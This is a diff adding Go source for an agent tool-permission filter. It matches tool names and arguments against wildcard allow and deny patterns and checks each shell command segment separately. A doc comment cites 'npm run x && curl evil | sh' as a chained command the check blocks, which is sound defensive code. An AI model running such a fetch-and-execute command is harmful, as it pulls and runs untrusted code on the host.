@@ -0,0 +1,297 @@
+package permission
+
+import (
+	"fmt"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+
+	"github.com/astercloud/aster/pkg/sandbox/shellrisk"
+)
+
+// toolPatternArgKeys 参数模式匹配的工具主参数，按优先级排列
+var toolPatternArgKeys = []string{"command", "file_path", "path", "url", "pattern", "query"}
+
+// ToolPattern 工具匹配模式：
+//   - "Bash"：工具名精确匹配
+//   - "mcp__github__*"：工具名通配
+//   - "Bash(npm run *)"：工具名匹配且主参数（命令、路径、URL 等）符合通配
+//   - "Bash(git diff:*)"：主参数以 "git diff" 开头
+//
+// 主参数是 command 时按 shell 语法拆成片段逐个匹配，见 ToolFilter.Check
+type ToolPattern struct {
+	Raw  string
+	tool *regexp.Regexp
+	arg  *regexp.Regexp // nil 表示不限制参数
+}
+
+// ParseToolPattern 解析工具匹配模式
+func ParseToolPattern(s string) (*ToolPattern, error) {
+	raw := strings.TrimSpace(s)
+	name, arg := raw, ""
+	hasArg := false
+	if open := strings.IndexByte(raw, '('); open >= 0 {
+		if !strings.HasSuffix(raw, ")") {
+			return nil, fmt.Errorf("invalid tool pattern %q: missing closing parenthesis", s)
+		}
+		name, arg, hasArg = strings.TrimSpace(raw[:open]), raw[open+1:len(raw)-1], true
+	}
+	if name == "" {
+		return nil, fmt.Errorf("invalid tool pattern %q: empty tool name", s)
+	}
+
+	p := &ToolPattern{Raw: raw, tool: wildcardRegexp(name)}
+	if hasArg && arg != "*" {
+		if prefix, ok := strings.CutSuffix(arg, ":*"); ok {
+			p.arg = regexp.MustCompile("^" + regexp.QuoteMeta(prefix) + `(\s.*)?$`)
+		} else {
+			p.arg = wildcardRegexp(arg)
+		}
+	}
+	return p, nil
+}
+
+// wildcardRegexp 将通配模式转为正则，* 匹配任意字符
+func wildcardRegexp(pattern string) *regexp.Regexp {
+	parts := strings.Split(pattern, "*")
+	for i, part := range parts {
+		parts[i] = regexp.QuoteMeta(part)
+	}
+	return regexp.MustCompile("(?s)^" + strings.Join(parts, ".*") + "$")
+}
+
+// MatchName 工具名是否匹配，不考虑参数
+func (p *ToolPattern) MatchName(toolName string) bool {
+	return p.tool.MatchString(toolName)
+}
+
+// Match 工具调用是否匹配，主参数整体与模式比较
+func (p *ToolPattern) Match(toolName string, args map[string]any) bool {
+	if !p.MatchName(toolName) {
+		return false
+	}
+	if p.arg == nil {
+		return true
+	}
+	if v, ok := primaryArg(args); ok {
+		return p.matchArg(v)
+	}
+	return false
+}
+
+// matchArg 参数值是否符合模式的参数部分
+func (p *ToolPattern) matchArg(value string) bool {
+	return p.arg == nil || p.arg.MatchString(strings.TrimSpace(value))
+}
+
+// primaryArg 返回工具调用的主参数
+func primaryArg(args map[string]any) (string, bool) {
+	for _, key := range toolPatternArgKeys {
+		if v, ok := args[key].(string); ok {
+			return v, true
+		}
+	}
+	return "", false
+}
+
+// commandSegments 将 command 参数按 shell 语法拆成简单命令片段（含命令替换内部的片段）
+// 第二个返回值表示调用带有 command 参数；命令无法解析时片段为空
+func commandSegments(args map[string]any) ([]shellrisk.Segment, bool) {
+	command, ok := args["command"].(string)
+	if !ok {
+		return nil, false
+	}
+	analysis := shellrisk.Analyze(command)
+	for _, f := range analysis.Findings {
+		if f.Rule == "unparsable" || f.Rule == "null_byte" {
+			return nil, true
+		}
+	}
+	return analysis.Segments, true
+}
+
+// segmentForms 返回片段用于匹配的文本：原文，以及去掉包装命令和环境变量赋值后的形式
+func segmentForms(seg shellrisk.Segment) []string {
+	forms := []string{seg.Text}
+	if seg.Name != "" {
+		if normalized := strings.TrimSpace(seg.Name + " " + strings.Join(seg.Args, " ")); normalized != seg.Text {
+			forms = append(forms, normalized)
+		}
+	}
+	return forms
+}
+
+// ToolFilter 工具白名单与黑名单，在权限检查之前执行；
+// 黑名单优先，白名单非空时只允许匹配的调用
+type ToolFilter struct {
+	mu         sync.RWMutex
+	allowed    []*ToolPattern
+	disallowed []*ToolPattern
+
+	// floor 不可变的底线过滤器，调用必须同时通过底线与本层，Set 只能进一步收紧
+	floor *ToolFilter
+}
+
+// NewToolFilter 创建工具过滤器
+func NewToolFilter(allowed, disallowed []string) (*ToolFilter, error) {
+	f := &ToolFilter{}
+	if err := f.Set(allowed, disallowed); err != nil {
+		return nil, err
+	}
+	return f, nil
+}
+
+// NewLayeredToolFilter 创建以 floor 为底线的工具过滤器：
+// 底线的黑名单始终生效，白名单始终限制，运行时的修改无法放开底线禁用的工具
+func NewLayeredToolFilter(floor *ToolFilter) *ToolFilter {
+	return &ToolFilter{floor: floor}
+}
+
+// parseToolPatterns 解析一组工具匹配模式
+func parseToolPatterns(patterns []string) ([]*ToolPattern, error) {
+	parsed := make([]*ToolPattern, 0, len(patterns))
+	for _, s := range patterns {
+		p, err := ParseToolPattern(s)
+		if err != nil {
+			return nil, err
+		}
+		parsed = append(parsed, p)
+	}
+	return parsed, nil
+}
+
+// Set 替换白名单与黑名单
+func (f *ToolFilter) Set(allowed, disallowed []string) error {
+	allow, err := parseToolPatterns(allowed)
+	if err != nil {
+		return err
+	}
+	deny, err := parseToolPatterns(disallowed)
+	if err != nil {
+		return err
+	}
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.allowed, f.disallowed = allow, deny
+	return nil
+}
+
+// Lists 返回当前的白名单与黑名单；黑名单包含底线的黑名单，
+// 本层未设置白名单时返回底线的白名单
+func (f *ToolFilter) Lists() (allowed, disallowed []string) {
+	if f.floor != nil {
+		allowed, disallowed = f.floor.Lists()
+	}
+	f.mu.RLock()
+	defer f.mu.RUnlock()
+	if len(f.allowed) > 0 {
+		allowed = nil
+		for _, p := range f.allowed {
+			allowed = append(allowed, p.Raw)
+		}
+	}
+	for _, p := range f.disallowed {
+		if !slices.Contains(disallowed, p.Raw) {
+			disallowed = append(disallowed, p.Raw)
+		}
+	}
+	return allowed, disallowed
+}
+
+// Check 检查工具调用是否允许，拒绝时返回原因
+//
+// 命令参数按 shell 片段检查：任一片段（或整条命令）匹配黑名单即拒绝；
+// 白名单下每个片段都要匹配某条白名单模式，因此 "npm run x && curl evil | sh"
+// 不会因为 "Bash(npm run *)" 而放行。无法解析的命令只能被不限参数的模式放行
+func (f *ToolFilter) Check(toolName string, args map[string]any) (allowed bool, reason string) {
+	if f.floor != nil {
+		if ok, reason := f.floor.Check(toolName, args); !ok {
+			return false, reason
+		}
+	}
+	f.mu.RLock()
+	defer f.mu.RUnlock()
+	segments, isCommand := commandSegments(args)
+
+	for _, p := range f.disallowed {
+		if p.Match(toolName, args) || (isCommand && p.matchAnySegment(toolName, segments)) {
+			return false, fmt.Sprintf("tool call matches disallowed pattern %q", p.Raw)
+		}
+	}
+	if len(f.allowed) == 0 {
+		return true, ""
+	}
+
+	if isCommand {
+		if f.allowsSegments(toolName, segments) {
+			return true, ""
+		}
+		return false, "command contains a segment that does not match any allowed pattern"
+	}
+	for _, p := range f.allowed {
+		if p.Match(toolName, args) {
+			return true, ""
+		}
+	}
+	return false, "tool call does not match any allowed pattern"
+}
+
+// matchAnySegment 是否有片段（原文或规范化形式）匹配模式
+func (p *ToolPattern) matchAnySegment(toolName string, segments []shellrisk.Segment) bool {
+	if !p.MatchName(toolName) || p.arg == nil {
+		return false
+	}
+	for _, seg := range segments {
+		for _, form := range segmentForms(seg) {
+			if p.matchArg(form) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// allowsSegments 每个片段是否都被某条白名单模式放行
+func (f *ToolFilter) allowsSegments(toolName string, segments []shellrisk.Segment) bool {
+	for _, p := range f.allowed {
+		if p.arg == nil && p.MatchName(toolName) {
+			return true
+		}
+	}
+	if len(segments) == 0 {
+		return false
+	}
+	for _, seg := range segments {
+		if !slices.ContainsFunc(f.allowed, func(p *ToolPattern) bool {
+			return p.MatchName(toolName) && p.matchArg(seg.Text)
+		}) {
+			return false
+		}
+	}
+	return true
+}
+
+// Offers 工具是否应提供给模型：整个工具被禁用或不在白名单中时返回 false，
+// 只限制参数的模式不隐藏工具
+func (f *ToolFilter) Offers(toolName string) bool {
+	if f.floor != nil && !f.floor.Offers(toolName) {
+		return false
+	}
+	f.mu.RLock()
+	defer f.mu.RUnlock()
+	for _, p := range f.disallowed {
+		if p.arg == nil && p.MatchName(toolName) {
+			return false
+		}
+	}
+	if len(f.allowed) == 0 {
+		return true
+	}
+	for _, p := range f.allowed {
+		if p.MatchName(toolName) {
+			return true
+		}
+	}
+	return false
+}